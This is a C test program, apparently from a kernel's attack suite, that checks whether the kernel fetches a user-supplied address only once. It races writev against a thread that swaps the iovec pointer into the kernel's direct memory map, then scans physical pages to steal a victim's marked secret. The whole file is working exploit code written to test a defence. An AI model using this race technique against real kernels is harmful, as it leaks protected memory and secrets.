/*
 * attack_single_fetch - against the wall "single-fetch": what was checked of a user copy is what is used.
 *
 * writev() is told of 32 bytes of the attacker's own while a second thread, on another CPU, keeps exchanging
 * their address for one in the kernel's map of physical memory. A kernel that looks at the address, finds it
 * good, and then fetches it again writes kernel memory into the pipe. The victim's mark shows where its
 * secret is.
 */
/* run: --smp=2 */
#include "physical.h"
#include "threads.h"

#include <sys/uio.h>

#define TRIES  24        /* a page, with an exchange meanwhile; one of four succeeds */
#define ENOUGH 90000000l /* us, where the two threads hardly ever run at once */

static char own[sizeof(struct marked)];
static volatile struct iovec vector = {own, sizeof own};
static void *volatile target;
static volatile unsigned long exchanged;

static int exchanges(void *unused)
{
	(void)unused;
	run_on(1);
	for (;;) {
		vector.iov_base = own;
		vector.iov_base = target;
		exchanged++;
	}
	return 0;
}

/* The start of the page, if the race is won. */
static int read_page(int fd[2], struct marked *m, long until)
{
	unsigned long before;

	for (int i = 0; i < TRIES && now_us() < until; i += exchanged != before) {
		before = exchanged;
		if (sc(SYS_writev, fd[1], &vector, 1) != sizeof *m)
			continue;
		if (sc(SYS_read, fd[0], m, sizeof *m) != sizeof *m)
			_exit(1);
		if (memcmp(m, own, sizeof *m))
			return 1;
	}
	return 0;
}

static void attacker(int loot)
{
	long until = now_us() + ENOUGH;
	uint64_t end = FIRST_MIB + (8u << 20); /* frames are handed out from below, and few are in use */
	struct marked m;
	int fd[2];

	make_pipe(fd);
	memset(own, 'o', sizeof own);
	run_on(0);
	thread_raw(exchanges, 0);
	for (uint64_t at = FIRST_MIB; at < end; at += PAGE) {
		target = (void *)(DIRECT_MAP + at);
		if (read_page(fd, &m, until) && is_marked(m.mark[0], m.mark[1]))
			_exit(write(loot, m.secret, SECRET) != SECRET);
	}
	_exit(0);
}

int main(void)
{
	return attack_memory(attacker);
}
